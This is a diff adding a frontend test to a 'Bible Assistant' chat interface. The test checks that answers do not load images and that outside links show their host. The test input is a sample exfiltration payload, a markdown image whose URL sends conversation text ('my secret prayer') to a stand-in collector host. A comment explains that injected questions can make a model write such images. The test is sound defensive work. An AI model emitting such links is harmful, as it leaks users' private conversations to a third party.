@@ -48,6 +48,18 @@ describe('an answer of the Bible Assistant', () => {
     expect(answer).toHaveTextContent('tap');
   });
 
+  it('fetches no picture the answer names, and shows where an outside link leads', async () => {
+    // A question can trick a model into writing an image whose address carries the conversation to its host.
+    const { answer } = await showAnswer(
+      'Here: ![the lost sheep](https://collector.example/p.png?c=my%20secret%20prayer) and [a trusted commentary](https://collector.example/read).',
+    );
+    expect(answer.querySelector('img')).toBeNull();
+    expect(answer).toHaveTextContent('[the lost sheep]');
+    expect(answer).not.toHaveTextContent('my secret prayer');
+    expect(within(answer).getByRole('link', { name: 'a trusted commentary' })).toHaveAttribute('href', 'https://collector.example/read');
+    expect(answer).toHaveTextContent('a trusted commentary (collector.example)');
+  });
+
   it('links a Bible reference to the reader, and shows the verse on hover', async () => {
     const { answer, user } = await showAnswer('God so loved the world (**John 3:16**).\n\n- Read John 3:16 tonight.');
     const links = await within(answer).findAllByRole('link', { name: 'John 3:16' }, WAIT);
